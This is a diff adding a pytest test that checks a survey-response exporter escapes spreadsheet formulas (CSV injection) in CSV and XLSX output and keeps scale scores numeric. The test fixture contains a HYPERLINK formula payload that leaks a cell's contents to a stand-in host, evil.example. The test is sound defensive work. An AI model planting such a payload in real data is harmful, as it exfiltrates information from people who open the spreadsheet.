@@ -58,3 +58,29 @@ def test_export_csv_and_xlsx_carry_answers_and_weight_columns(runner, db_session
     header = [cell.value for cell in sheet[1]]
     assert sheet.max_row == 3
     assert header[: len(header)] == ["response_id"] + columns
+
+
+def test_exports_are_formula_safe_and_keep_scales_numeric(runner, db_session, tmp_path):
+    """Citizen free text cannot become a live spreadsheet formula (OWASP 'CSV injection')."""
+    wave = make_wave(db_session)
+    centre = make_centre(db_session)
+    attack = '=HYPERLINK("http://evil.example/?"&A2,"Bấm vào đây")'
+    make_response(db_session, wave, centre, {"tc1": "4", "other_comments": attack})
+    make_response(db_session, wave, centre, {"tc1": "1", "other_comments": "-ok"})
+    db_session.commit()
+
+    csv_out, xlsx_out = tmp_path / "r.csv", tmp_path / "r.xlsx"
+    for out, fmt in ((csv_out, "csv"), (xlsx_out, "xlsx")):
+        result = runner.invoke(args=["export", "responses", "--wave", "2026Q3", "--format", fmt, "--out", str(out)])
+        assert result.exit_code == 0, result.output
+
+    frame = pd.read_csv(csv_out, encoding="utf-8-sig")
+    assert sorted(frame["other_comments"]) == ["'-ok", "'" + attack]
+    assert sorted(frame["tc1"]) == [1, 4]
+
+    sheet = openpyxl.load_workbook(xlsx_out).active
+    header = [cell.value for cell in sheet[1]]
+    comments = [row[header.index("other_comments")] for row in sheet.iter_rows(min_row=2)]
+    assert all(cell.data_type == "s" and cell.value.startswith("'") for cell in comments)
+    scores = [row[header.index("tc1")].value for row in sheet.iter_rows(min_row=2)]
+    assert sorted(scores) == [1, 4]  # numbers, not text, so Excel can average them
